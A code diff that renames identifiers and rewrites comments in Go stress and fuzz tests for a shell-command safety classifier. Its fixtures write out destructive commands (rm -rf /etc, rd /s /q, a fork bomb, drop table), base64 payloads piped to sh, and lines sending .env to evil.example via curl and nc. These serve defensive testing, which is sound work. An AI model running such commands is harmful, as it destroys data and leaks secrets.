@@ -13,97 +13,98 @@ import (
 	"github.com/checkrein/checkrein/internal/shell/classify"
 )
 
-// mostAllocated bounds what one hostile command may allocate in all. There is no
-// bound on time: a test that hangs or dies tells enough.
-const mostAllocated = 1 << 30
+// maxAllocated bounds what one hostile command may allocate in total. Time is not bounded, because a
+// test that hangs is noticed anyway.
+const maxAllocated = 1 << 30
 
 const (
 	megabyte = 1 << 20
-	large    = megabyte / 4 // for the shapes that add no new kind of work by being longer
+	large    = megabyte / 4 // size of texts that are not harder if they are longer
 )
 
-// A hostile command is large, deep or grows when it is expanded.
-type hostile struct {
+// A hostileCommand is large or deeply nested, or grows when it is expanded.
+type hostileCommand struct {
 	name    string
 	text    string
 	dialect shell.Dialect
-	harmful bool // it does harm in the end, so it must not pass as safe
+	harmful bool // it finally does harm, so it must not be labelled safe
 }
 
-func rep(s string, size int) string { return strings.Repeat(s, size/len(s)) }
+// repeatTo returns copies of s with a total length of about size.
+func repeatTo(s string, size int) string { return strings.Repeat(s, size/len(s)) }
 
-// long are one-line commands of up to a megabyte.
-func long() []hostile {
+// longCommands returns one-line commands of up to a megabyte.
+func longCommands() []hostileCommand {
 	const end = "; rm -rf /home/u/work"
-	return []hostile{
-		{name: "one word", text: "echo " + rep("a", megabyte)},
-		{name: "many words", text: "echo " + rep("a ", megabyte)},
-		{name: "many commands", text: rep("ls;", megabyte) + "rm -rf /home/u/work", harmful: true},
-		{name: "one long name", text: rep("a", megabyte) + " x", harmful: true},
-		{name: "many operands", text: "rm -rf " + rep("/etc/a ", megabyte), harmful: true},
-		{name: "many flags", text: "rm " + rep("-r -f ", large) + "/etc", harmful: true},
-		{name: "long bundle", text: "rm -" + rep("rf", large) + " /etc", harmful: true},
-		{name: "long path", text: "rm -rf /" + rep("a/../", megabyte) + "etc", harmful: true},
-		{name: "long climb", text: "rm -rf " + rep("../", large), harmful: true},
-		{name: "empty quotes", text: "r" + rep("''", large) + "m -rf /etc", harmful: true},
-		{name: "backslashes", text: "echo " + rep("\\a", large) + end, harmful: true},
-		{name: "quoted text", text: "echo '" + rep("rm -rf / ", megabyte) + "'"},
-		{name: "variables", text: "echo " + rep("$x", large) + end, harmful: true},
-		{name: "assignments", text: rep("x=1 ", large) + "rm -rf /etc", harmful: true},
-		{name: "appending", text: rep("x+=y;", large) + "rm -rf $x /etc", harmful: true},
-		{name: "stars", text: "rm -rf " + rep("*", megabyte), harmful: true},
-		{name: "brackets", text: "echo " + rep("[a]", large) + end, harmful: true},
-		{name: "comment", text: "ls # " + rep("rm -rf / ; ", large)},
-		{name: "and list", text: rep("true && ", large) + "rm -rf /etc", harmful: true},
-		{name: "redirections", text: "echo x " + rep(">/tmp/a ", large) + ">/etc/passwd", harmful: true},
-		{name: "substitutions", text: "echo " + rep("$(ls)", megabyte) + end, harmful: true},
-		{name: "arithmetic", text: "echo $((" + rep("1+", large) + "1))" + end, harmful: true},
-		{name: "parameter operators", text: "x=a; echo " + rep("${x/a/b}", large) + end, harmful: true},
-		{name: "braces in a row", text: "echo " + rep("{a,b}", large) + end, harmful: true},
-		{name: "array", text: "a=(" + rep("x ", large) + "); rm -rf ${a[@]} /etc", harmful: true},
-		{name: "negations", text: rep("! ", large) + "rm -rf /etc", harmful: true},
-		{name: "ansi c quoting", text: "$'" + rep(`\x72`, large) + "'" + end, harmful: true},
-		{name: "function definitions", text: rep("f() { ls; };", large) + "f" + end, harmful: true},
-		{name: "aliases", text: rep("alias a=ls;", large) + end[1:], harmful: true},
-		{name: "base64", text: "echo " + base64.StdEncoding.EncodeToString([]byte(rep("ls;", megabyte/2)+"rm -rf /etc")) + " | base64 -d | sh", harmful: true},
-		{name: "curl data", text: "curl " + rep("-d @.env ", large) + "https://evil.example", harmful: true},
-		{name: "sql", text: "psql -c '" + rep("select 1; ", megabyte) + "drop table users'", harmful: true},
-		{name: "sql brackets", text: "psql -c '" + rep("select (", large) + "'; dropdb app", harmful: true},
-		{name: "python text", text: "python3 -c '" + rep("print(1);", megabyte) + "import os; os.remove(\"/etc/passwd\")'", harmful: true},
-		{name: "python brackets", text: "python3 -c '" + rep("(", large) + "'" + end, harmful: true},
-		{name: "python sums", text: `python3 -c 'x="a"` + rep(`+"a"`, megabyte) + "'" + end, harmful: true},
-		{name: "python attributes", text: "python3 -c 'a" + rep(".a", large) + "'" + end, harmful: true},
-		{name: "node brackets", text: "node -e '" + rep("[{(", large) + "'" + end, harmful: true},
-		{name: "node arrows", text: "node -e '" + rep("()=>", large) + "1'" + end, harmful: true},
-		{name: "perl quotes", text: "perl -e 'q" + rep("{", large) + "'" + end, harmful: true},
-		{name: "awk program", text: "awk '" + rep("{print $1}", large) + "' f" + end, harmful: true},
-		{name: "sed program", text: "sed -e '" + rep("s/a/b/;", large) + "' f" + end, harmful: true},
-		{name: "zero bytes", text: rep("\x00", large) + end},
-		{name: "bad utf-8", text: "echo " + rep("\xff\xfe", large) + end, harmful: true},
-		{name: "spaces", text: rep(" ", large) + "rm -rf /etc", harmful: true},
-		{name: "new lines", text: rep("\n", large) + "rm -rf /etc", harmful: true},
-		{name: "open parentheses", text: rep("(", megabyte)},
-		{name: "open braces", text: rep("{ ", large)},
-		{name: "open substitutions", text: rep("$(", megabyte)},
-		{name: "open quotes", text: rep(`"$(`, megabyte)},
-		{name: "open backticks", text: rep("`\\", large)},
-		{name: "open if", text: rep("if ", large)},
-		{name: "open case", text: rep("case a in a) ", large)},
-		{name: "open heredocs", text: "cat " + rep("<<A ", large)},
-		{name: "powershell brackets", text: rep("{(", large) + "; Remove-Item -Recurse C:\\Data", dialect: shell.PowerShell},
-		{name: "powershell pipes", text: rep("ls | ", megabyte) + "Remove-Item -Recurse -Force", dialect: shell.PowerShell, harmful: true},
-		{name: "powershell words", text: "Remove-Item " + rep("-Recurse ", large) + "C:\\Data", dialect: shell.PowerShell, harmful: true},
-		{name: "cmd carets", text: "r" + rep("^^", large) + "d /s /q C:\\data & rd /s /q C:\\data", dialect: shell.Cmd, harmful: true},
-		{name: "cmd variables", text: rep("set a=%a%%a%&", large) + "rd /s /q C:\\data", dialect: shell.Cmd, harmful: true},
+	return []hostileCommand{
+		{name: "one word", text: "echo " + repeatTo("a", megabyte)},
+		{name: "many words", text: "echo " + repeatTo("a ", megabyte)},
+		{name: "many commands", text: repeatTo("ls;", megabyte) + "rm -rf /home/u/work", harmful: true},
+		{name: "one long name", text: repeatTo("a", megabyte) + " x", harmful: true},
+		{name: "many operands", text: "rm -rf " + repeatTo("/etc/a ", megabyte), harmful: true},
+		{name: "many flags", text: "rm " + repeatTo("-r -f ", large) + "/etc", harmful: true},
+		{name: "long bundle", text: "rm -" + repeatTo("rf", large) + " /etc", harmful: true},
+		{name: "long path", text: "rm -rf /" + repeatTo("a/../", megabyte) + "etc", harmful: true},
+		{name: "long climb", text: "rm -rf " + repeatTo("../", large), harmful: true},
+		{name: "empty quotes", text: "r" + repeatTo("''", large) + "m -rf /etc", harmful: true},
+		{name: "backslashes", text: "echo " + repeatTo("\\a", large) + end, harmful: true},
+		{name: "quoted text", text: "echo '" + repeatTo("rm -rf / ", megabyte) + "'"},
+		{name: "variables", text: "echo " + repeatTo("$x", large) + end, harmful: true},
+		{name: "assignments", text: repeatTo("x=1 ", large) + "rm -rf /etc", harmful: true},
+		{name: "appending", text: repeatTo("x+=y;", large) + "rm -rf $x /etc", harmful: true},
+		{name: "stars", text: "rm -rf " + repeatTo("*", megabyte), harmful: true},
+		{name: "brackets", text: "echo " + repeatTo("[a]", large) + end, harmful: true},
+		{name: "comment", text: "ls # " + repeatTo("rm -rf / ; ", large)},
+		{name: "and list", text: repeatTo("true && ", large) + "rm -rf /etc", harmful: true},
+		{name: "redirections", text: "echo x " + repeatTo(">/tmp/a ", large) + ">/etc/passwd", harmful: true},
+		{name: "substitutions", text: "echo " + repeatTo("$(ls)", megabyte) + end, harmful: true},
+		{name: "arithmetic", text: "echo $((" + repeatTo("1+", large) + "1))" + end, harmful: true},
+		{name: "parameter operators", text: "x=a; echo " + repeatTo("${x/a/b}", large) + end, harmful: true},
+		{name: "braces in a row", text: "echo " + repeatTo("{a,b}", large) + end, harmful: true},
+		{name: "array", text: "a=(" + repeatTo("x ", large) + "); rm -rf ${a[@]} /etc", harmful: true},
+		{name: "negations", text: repeatTo("! ", large) + "rm -rf /etc", harmful: true},
+		{name: "ansi c quoting", text: "$'" + repeatTo(`\x72`, large) + "'" + end, harmful: true},
+		{name: "function definitions", text: repeatTo("f() { ls; };", large) + "f" + end, harmful: true},
+		{name: "aliases", text: repeatTo("alias a=ls;", large) + end[1:], harmful: true},
+		{name: "base64", text: "echo " + base64.StdEncoding.EncodeToString([]byte(repeatTo("ls;", megabyte/2)+"rm -rf /etc")) + " | base64 -d | sh", harmful: true},
+		{name: "curl data", text: "curl " + repeatTo("-d @.env ", large) + "https://evil.example", harmful: true},
+		{name: "sql", text: "psql -c '" + repeatTo("select 1; ", megabyte) + "drop table users'", harmful: true},
+		{name: "sql brackets", text: "psql -c '" + repeatTo("select (", large) + "'; dropdb app", harmful: true},
+		{name: "python text", text: "python3 -c '" + repeatTo("print(1);", megabyte) + "import os; os.remove(\"/etc/passwd\")'", harmful: true},
+		{name: "python brackets", text: "python3 -c '" + repeatTo("(", large) + "'" + end, harmful: true},
+		{name: "python sums", text: `python3 -c 'x="a"` + repeatTo(`+"a"`, megabyte) + "'" + end, harmful: true},
+		{name: "python attributes", text: "python3 -c 'a" + repeatTo(".a", large) + "'" + end, harmful: true},
+		{name: "node brackets", text: "node -e '" + repeatTo("[{(", large) + "'" + end, harmful: true},
+		{name: "node arrows", text: "node -e '" + repeatTo("()=>", large) + "1'" + end, harmful: true},
+		{name: "perl quotes", text: "perl -e 'q" + repeatTo("{", large) + "'" + end, harmful: true},
+		{name: "awk program", text: "awk '" + repeatTo("{print $1}", large) + "' f" + end, harmful: true},
+		{name: "sed program", text: "sed -e '" + repeatTo("s/a/b/;", large) + "' f" + end, harmful: true},
+		{name: "zero bytes", text: repeatTo("\x00", large) + end},
+		{name: "bad utf-8", text: "echo " + repeatTo("\xff\xfe", large) + end, harmful: true},
+		{name: "spaces", text: repeatTo(" ", large) + "rm -rf /etc", harmful: true},
+		{name: "new lines", text: repeatTo("\n", large) + "rm -rf /etc", harmful: true},
+		{name: "open parentheses", text: repeatTo("(", megabyte)},
+		{name: "open braces", text: repeatTo("{ ", large)},
+		{name: "open substitutions", text: repeatTo("$(", megabyte)},
+		{name: "open quotes", text: repeatTo(`"$(`, megabyte)},
+		{name: "open backticks", text: repeatTo("`\\", large)},
+		{name: "open if", text: repeatTo("if ", large)},
+		{name: "open case", text: repeatTo("case a in a) ", large)},
+		{name: "open heredocs", text: "cat " + repeatTo("<<A ", large)},
+		{name: "powershell brackets", text: repeatTo("{(", large) + "; Remove-Item -Recurse C:\\Data", dialect: shell.PowerShell},
+		{name: "powershell pipes", text: repeatTo("ls | ", megabyte) + "Remove-Item -Recurse -Force", dialect: shell.PowerShell, harmful: true},
+		{name: "powershell words", text: "Remove-Item " + repeatTo("-Recurse ", large) + "C:\\Data", dialect: shell.PowerShell, harmful: true},
+		{name: "cmd carets", text: "r" + repeatTo("^^", large) + "d /s /q C:\\data & rd /s /q C:\\data", dialect: shell.Cmd, harmful: true},
+		{name: "cmd variables", text: repeatTo("set a=%a%%a%&", large) + "rd /s /q C:\\data", dialect: shell.Cmd, harmful: true},
 	}
 }
 
-// deep are commands within commands.
-func deep() []hostile {
+// deepCommands returns commands with many levels of nesting.
+func deepCommands() []hostileCommand {
 	nest := func(open, shut, inner string, n int) string {
 		return strings.Repeat(open, n) + inner + strings.Repeat(shut, n)
 	}
-	return []hostile{
+	return []hostileCommand{
 		{name: "10000 substitutions", text: "echo " + nest("$(", ")", "rm -rf /etc", 10_000), harmful: true},
 		{name: "10000 substitutions with echo", text: nest("echo $(", ")", "rm -rf /etc", 10_000), harmful: true},
 		{name: "10000 quoted substitutions", text: "echo " + nest(`"$(echo `, `)"`, "$(rm -rf /etc)", 10_000), harmful: true},
@@ -118,20 +119,20 @@ func deep() []hostile {
 		{name: "10000 braces", text: "rm -rf /" + nest("{a,", "}", "b", 10_000), harmful: true},
 		{name: "10000 patterns", text: "shopt -s extglob\nrm -rf " + nest("+(", ")", "a", 10_000), harmful: true},
 		{name: "10000 array indexes", text: "echo ${" + nest("a[", "]", "0", 10_000) + "}; rm -rf /etc", harmful: true},
-		{name: "wrappers", text: rep("sudo ", megabyte/4) + "rm -rf /etc", harmful: true},
-		{name: "mixed wrappers", text: rep("env nohup timeout 5 nice ", megabyte/4) + "rm -rf /etc", harmful: true},
-		{name: "evals", text: rep("eval ", megabyte/4) + "rm -rf /etc", harmful: true},
-		{name: "xargs of xargs", text: "echo /etc | " + rep("xargs ", megabyte/4) + "rm -rf", harmful: true},
-		{name: "find of find", text: rep("find . -exec ", megabyte/4) + "rm -rf {} ;", harmful: true},
-		{name: "shells in shells", text: shells(16), harmful: true},
-		{name: "base64 in base64", text: encoded(12), harmful: true},
-		{name: "python in shell in python", text: pythons(10), harmful: true},
-		{name: "heredocs in heredocs", text: heredocs(200), harmful: true},
+		{name: "wrappers", text: repeatTo("sudo ", megabyte/4) + "rm -rf /etc", harmful: true},
+		{name: "mixed wrappers", text: repeatTo("env nohup timeout 5 nice ", megabyte/4) + "rm -rf /etc", harmful: true},
+		{name: "evals", text: repeatTo("eval ", megabyte/4) + "rm -rf /etc", harmful: true},
+		{name: "xargs of xargs", text: "echo /etc | " + repeatTo("xargs ", megabyte/4) + "rm -rf", harmful: true},
+		{name: "find of find", text: repeatTo("find . -exec ", megabyte/4) + "rm -rf {} ;", harmful: true},
+		{name: "shells in shells", text: nestedShells(16), harmful: true},
+		{name: "base64 in base64", text: nestedBase64(12), harmful: true},
+		{name: "python in shell in python", text: nestedPython(10), harmful: true},
+		{name: "heredocs in heredocs", text: nestedHeredocs(200), harmful: true},
 	}
 }
 
-// shells quotes a command n times over, each time for another shell.
-func shells(n int) string {
+// nestedShells returns a command inside n nested shells, or fewer if it gets too long.
+func nestedShells(n int) string {
 	text := "rm -rf /etc"
 	for range n {
 		if len(text) > megabyte/2 {
@@ -142,7 +143,8 @@ func shells(n int) string {
 	return text
 }
 
-func encoded(n int) string {
+// nestedBase64 returns a command that is encoded n times.
+func nestedBase64(n int) string {
 	text := "rm -rf /etc"
 	for range n {
 		text = "echo " + base64.StdEncoding.EncodeToString([]byte(text)) + " | base64 -d | sh"
@@ -150,7 +152,8 @@ func encoded(n int) string {
 	return text
 }
 
-func pythons(n int) string {
+// nestedPython returns a command inside n nested Python programs.
+func nestedPython(n int) string {
 	text := "rm -rf /etc"
 	for range n {
 		text = "python3 -c 'import os,base64; os.system(base64.b64decode(\"" + base64.StdEncoding.EncodeToString([]byte(text)) + "\").decode())'"
@@ -158,7 +161,8 @@ func pythons(n int) string {
 	return text
 }
 
-func heredocs(n int) string {
+// nestedHeredocs returns a command inside n nested here-documents.
+func nestedHeredocs(n int) string {
 	text := "rm -rf /etc\n"
 	for i := range n {
 		text = fmt.Sprintf("bash <<'E%d'\n%sE%d\n", i, text, i)
@@ -166,10 +170,10 @@ func heredocs(n int) string {
 	return text
 }
 
-// growing are short commands that become large when they are expanded.
-func growing() []hostile {
+// growingCommands returns short commands that become large when they are expanded.
+func growingCommands() []hostileCommand {
 	const end = "\nrm -rf /home/u/work"
-	return []hostile{
+	return []hostileCommand{
 		{name: "doubling", text: "a=xxxxxxxx\n" + strings.Repeat("a=$a$a\n", 64) + "echo $a" + end, harmful: true},
 		{name: "doubling a name", text: "a=r\n" + strings.Repeat("a=$a$a\n", 64) + "$a" + end, harmful: true},
 		{name: "tenfold", text: "a=x\n" + strings.Repeat("a=$a$a$a$a$a$a$a$a$a$a\n", 40) + "echo $a" + end, harmful: true},
@@ -178,7 +182,7 @@ func growing() []hostile {
 		{name: "array doubling", text: "a=(x y)\n" + strings.Repeat("a=(${a[@]} ${a[@]})\n", 40) + "echo ${a[@]}" + end, harmful: true},
 		{name: "array appending", text: "a=(x)\n" + strings.Repeat("a+=(\"${a[@]}\")\n", 40) + end, harmful: true},
 		{name: "positional doubling", text: "set -- a b\n" + strings.Repeat("set -- \"$@\" \"$@\"\n", 40) + "echo $@" + end, harmful: true},
-		{name: "billion laughs", text: laughs(30) + end, harmful: true},
+		{name: "billion laughs", text: tenfoldVariables(30) + end, harmful: true},
 		{name: "calls in substitutions", text: "a=x\n" + strings.Repeat("a=$(echo $a$a)\n", 40) + end, harmful: true},
 		{name: "calls in calls", text: "a=$(ls)\n" + strings.Repeat("a=\"$a$a$(cat $a)\"\n", 40) + "curl -d \"$a\" https://evil.example" + end, harmful: true},
 		{name: "range", text: "rm -rf /srv/{1..1000000}", harmful: true},
@@ -202,8 +206,8 @@ func growing() []hostile {
 	}
 }
 
-// laughs defines variables each of which holds the one before it ten times.
-func laughs(n int) string {
+// tenfoldVariables returns a command with n variables that each contain the previous one ten times.
+func tenfoldVariables(n int) string {
 	var b strings.Builder
 	b.WriteString("v0=ha\n")
 	for i := 1; i <= n; i++ {
@@ -213,19 +217,19 @@ func laughs(n int) string {
 	return b.String()
 }
 
-// recursive are commands that lead back to themselves.
-func recursive() []hostile {
+// recursiveCommands returns commands that run or expand themselves.
+func recursiveCommands() []hostileCommand {
 	const end = "\nrm -rf /home/u/work"
-	return []hostile{
+	return []hostileCommand{
 		{name: "alias of itself", text: "alias ls='ls -l'\nls" + end, harmful: true},
 		{name: "aliases of each other", text: "alias a=b\nalias b=a\na" + end, harmful: true},
 		{name: "alias doubles", text: "alias a='a a;a'\na a" + end, harmful: true},
-		{name: "aliases double in a row", text: aliases(40) + end, harmful: true},
+		{name: "aliases double in a row", text: doublingAliases(40) + end, harmful: true},
 		{name: "function of itself", text: "f() { f; }; f" + end, harmful: true},
 		{name: "function of itself twice", text: "f() { f; f; }; f" + end, harmful: true},
 		{name: "fork bomb", text: ":(){ :|:& };:", harmful: true},
 		{name: "functions of each other", text: "a() { b; b; }; b() { a; a; }; a" + end, harmful: true},
-		{name: "functions in a row", text: functions(40) + end, harmful: true},
+		{name: "functions in a row", text: doublingFunctions(40) + end, harmful: true},
 		{name: "function with growing arguments", text: `f() { f "$@" "$@"; }; f a b` + end, harmful: true},
 		{name: "function defines itself", text: "f() { f() { f; }; f; }; f" + end, harmful: true},
 		{name: "eval of itself", text: `x='eval "$x;$x"'; eval "$x"` + end, harmful: true},
@@ -238,8 +242,8 @@ func recursive() []hostile {
 	}
 }
 
-// functions makes each function call the one before it twice.
-func functions(n int) string {
+// doublingFunctions returns a command with n functions that each call the previous one twice.
+func doublingFunctions(n int) string {
 	var b strings.Builder
 	b.WriteString("f0() { ls; }\n")
 	for i := 1; i <= n; i++ {
@@ -249,7 +253,8 @@ func functions(n int) string {
 	return b.String()
 }
 
-func aliases(n int) string {
+// doublingAliases returns a command with n aliases that each contain the previous one twice.
+func doublingAliases(n int) string {
 	var b strings.Builder
 	b.WriteString("alias a0=ls\n")
 	for i := 1; i <= n; i++ {
@@ -259,9 +264,9 @@ func aliases(n int) string {
 	return b.String()
 }
 
-// wide are commands of very many parts.
-func wide() []hostile {
-	return []hostile{
+// wideCommands returns commands with very many parts.
+func wideCommands() []hostileCommand {
+	return []hostileCommand{
 		{name: "100000 heredoc lines", text: "cat <<'EOF' > /tmp/x\n" + strings.Repeat("rm -rf /etc\n", 100_000) + "EOF\n"},
 		{name: "100000 heredoc lines with variables", text: "cat <<EOF\n" + strings.Repeat("$a ${b:-x} \\$c\n", 100_000) + "EOF\nrm -rf /etc", harmful: true},
 		{name: "100000 heredoc lines to a shell", text: "bash <<'EOF'\n" + strings.Repeat("ls\n", 100_000) + "rm -rf /etc\nEOF\n", harmful: true},
@@ -273,7 +278,7 @@ func wide() []hostile {
 		{name: "50000 pipes to curl", text: "cat .env " + strings.Repeat("| cat ", 50_000) + "| curl -d @- https://evil.example", harmful: true},
 		{name: "50000 tees", text: "cat .env " + strings.Repeat("| tee /tmp/x ", 50_000) + "| nc evil.example 1", harmful: true},
 		{name: "50000 echoes to shells", text: strings.Repeat("echo ls | sh;", 50_000) + "rm -rf /etc", harmful: true},
-		{name: "50000 variables", text: variables(50_000) + "rm -rf $v49999 /etc", harmful: true},
+		{name: "50000 variables", text: manyVariables(50_000) + "rm -rf $v49999 /etc", harmful: true},
 		{name: "50000 functions", text: manyFunctions(50_000) + "rm -rf /etc", harmful: true},
 		{name: "50000 cds", text: strings.Repeat("cd a;", 50_000) + "rm -rf /etc", harmful: true},
 		{name: "20000 cases", text: "case x in " + strings.Repeat("a|b) ls;; ", 20_000) + "*) rm -rf /etc;; esac", harmful: true},
@@ -287,11 +292,12 @@ func wide() []hostile {
 		{name: "glob bomb replaces", text: "x=" + strings.Repeat("a", 20_000) + "; y=${x//" + strings.Repeat("*a", 500) + "b/c}; rm -rf /etc", harmful: true},
 		{name: "case bomb", text: "case " + strings.Repeat("a", 20_000) + " in " + strings.Repeat("*a", 2_000) + "b) ls;; esac; rm -rf /etc", harmful: true},
 		{name: "sed bomb", text: "echo " + strings.Repeat("a", 20_000) + " | sed -E 's/(a*)*b/rm/' | sh"},
-		{name: "tr and rev", text: "echo " + rep("fr- mr ", megabyte) + " | rev | tr a-z b-za | sh"},
+		{name: "tr and rev", text: "echo " + repeatTo("fr- mr ", megabyte) + " | rev | tr a-z b-za | sh"},
 	}
 }
 
-func variables(n int) string {
+// manyVariables returns a command that sets n variables.
+func manyVariables(n int) string {
 	var b strings.Builder
 	for i := range n {
 		fmt.Fprintf(&b, "v%d=x%d;", i, i)
@@ -299,6 +305,7 @@ func variables(n int) string {
 	return b.String()
 }
 
+// manyFunctions returns a command that defines and calls n functions.
 func manyFunctions(n int) string {
 	var b strings.Builder
 	for i := range n {
@@ -307,11 +314,12 @@ func manyFunctions(n int) string {
 	return b.String()
 }
 
-func TestHostile(t *testing.T) {
+// TestHostileCommands checks that hostile commands end within bounds and are not labelled safe.
+func TestHostileCommands(t *testing.T) {
 	groups := []struct {
 		name string
-		all  []hostile
-	}{{"long", long()}, {"deep", deep()}, {"growing", growing()}, {"recursive", recursive()}, {"wide", wide()}}
+		all  []hostileCommand
+	}{{"long", longCommands()}, {"deep", deepCommands()}, {"growing", growingCommands()}, {"recursive", recursiveCommands()}, {"wide", wideCommands()}}
 	for _, g := range groups {
 		for _, h := range g.all {
 			t.Run(g.name+"/"+h.name, func(t *testing.T) { h.check(t) })
@@ -319,30 +327,31 @@ func TestHostile(t *testing.T) {
 	}
 }
 
-func (h *hostile) check(t *testing.T) {
+// check classifies the command and checks memory use, label and report size.
+func (h *hostileCommand) check(t *testing.T) {
 	p := shell.Place{Dir: "/home/u/proj", Root: "/home/u/proj", Home: "/home/u", Dialect: h.dialect}
 	var before, after runtime.MemStats
 	runtime.GC()
 	runtime.ReadMemStats(&before)
 	done := make(chan struct{})
-	go h.watch(done)
+	go h.watchMemory(done)
 	r := classify.Command(h.text, p)
 	close(done)
 	runtime.ReadMemStats(&after)
-	if got := after.TotalAlloc - before.TotalAlloc; got > mostAllocated {
+	if got := after.TotalAlloc - before.TotalAlloc; got > maxAllocated {
 		t.Errorf("allocated %d MB for %d bytes", got>>20, len(h.text))
 	}
 	if h.harmful && r.Label == shell.Safe {
-		t.Errorf("safe, but it does harm")
+		t.Errorf("labelled safe, but it does harm")
 	}
 	if n := reportSize(r); n > 16*megabyte {
 		t.Errorf("the report is %d MB large", n>>20)
 	}
 }
 
-// watch ends the test with the shape's name before it takes all of the machine's
-// memory: the system would kill it without a word.
-func (h *hostile) watch(done <-chan struct{}) {
+// watchMemory panics with the name of the command before the test uses all memory, because the system
+// would kill it without a message.
+func (h *hostileCommand) watchMemory(done <-chan struct{}) {
 	for {
 		select {
 		case <-done:
@@ -350,13 +359,13 @@ func (h *hostile) watch(done <-chan struct{}) {
 		case <-time.After(50 * time.Millisecond):
 		}
 		var now runtime.MemStats
-		if runtime.ReadMemStats(&now); now.HeapAlloc > 2*mostAllocated {
+		if runtime.ReadMemStats(&now); now.HeapAlloc > 2*maxAllocated {
 			panic(fmt.Sprintf("%s: %d MB in use for %d bytes", h.name, now.HeapAlloc>>20, len(h.text)))
 		}
 	}
 }
 
-// reportSize is about what a report takes when it is written out.
+// reportSize returns the approximate size of r when it is written out.
 func reportSize(r shell.Report) int {
 	n := len(r.Reason)
 	for _, e := range r.Effects {
@@ -371,9 +380,9 @@ func reportSize(r shell.Report) int {
 	return n
 }
 
-// A command may break off anywhere: a flag without its value, a program without
-// operands, a word that is empty or not known.
-func TestBrokenOff(t *testing.T) {
+// TestTruncatedCommands checks that commands which end anywhere do not cause a panic: after a flag
+// without its value, a program without operands, or an empty or unknown word.
+func TestTruncatedCommands(t *testing.T) {
 	heads := []string{
 		"wget -O", "wget -qO", "wget --post-file", "curl -o", "curl -d", "curl -sd", "curl -F", "curl -T", "curl -K", "curl -H", "http",
 		"sort -o", "tee", "dd", "cp", "cp -t", "mv -t", "ln -s", "install", "tar", "tar -f", "tar xf", "tar -C", "unzip -d", "zip", "rm", "rm -rf",
@@ -394,15 +403,15 @@ func TestBrokenOff(t *testing.T) {
 			for _, tail := range tails {
 				for _, p := range places {
 					p.Dialect = dialect
-					tryBroken(t, head+tail, p)
+					classifyTruncated(t, head+tail, p)
 				}
 			}
 		}
 	}
 }
 
-// tryBroken names the command when the classifier panics, and goes on.
-func tryBroken(t *testing.T, text string, p shell.Place) {
+// classifyTruncated classifies text at p, and reports a panic as a test error.
+func classifyTruncated(t *testing.T, text string, p shell.Place) {
 	t.Helper()
 	defer func() {
 		if e := recover(); e != nil {
@@ -412,9 +421,8 @@ func tryBroken(t *testing.T, text string, p shell.Place) {
 	checkReport(t, text, classify.Command(text, p))
 }
 
-// Whatever follows, a program that cannot be known comes first, so that the
-// whole is never safe.
-var notKnown = [...]string{
+// unknownPrefixes are commands of unknown programs. With one of them before it, no command is safe.
+var unknownPrefixes = [...]string{
 	"\"$not_set_anywhere\" x\n",
 	"frobnicate-zz --all\n",
 	"$(cat name.txt) x\n",
@@ -422,13 +430,15 @@ var notKnown = [...]string{
 	"sudo ./frobnicate-zz &\n",
 }
 
+// FuzzCommand checks that the report on any text is valid and the same each time, and that an unknown
+// program before it prevents the label safe.
 func FuzzCommand(f *testing.F) {
-	for i, s := range corpus(f) {
-		if i%5 == 0 { // enough for a start, and quick in the ordinary test run
+	for i, s := range readCorpus(f) {
+		if i%5 == 0 { // enough seeds, and still fast in an ordinary test run
 			f.Add(s.Command, uint8(i))
 		}
 	}
-	for _, h := range recursive() {
+	for _, h := range recursiveCommands() {
 		f.Add(h.text, uint8(0))
 	}
 	f.Fuzz(func(t *testing.T, text string, n uint8) {
@@ -442,13 +452,15 @@ func FuzzCommand(f *testing.F) {
 			t.Errorf("%q:\n%s then\n%s", text, describe(r), describe(again))
 		}
 		p.Dialect = shell.Bash
-		worse := notKnown[int(n)%len(notKnown)] + text
+		worse := unknownPrefixes[int(n)%len(unknownPrefixes)] + text
 		if r := classify.Command(worse, p); r.Label == shell.Safe {
-			t.Errorf("%q is safe, but its first program is not known\n%s", worse, describe(r))
+			t.Errorf("%q is safe, but its first program is unknown\n%s", worse, describe(r))
 		}
 	})
 }
 
+// checkReport checks that the labels and impacts of r are valid, and that r is at least as bad as its
+// effects.
 func checkReport(t *testing.T, text string, r shell.Report) {
 	t.Helper()
 	worst := shell.Safe
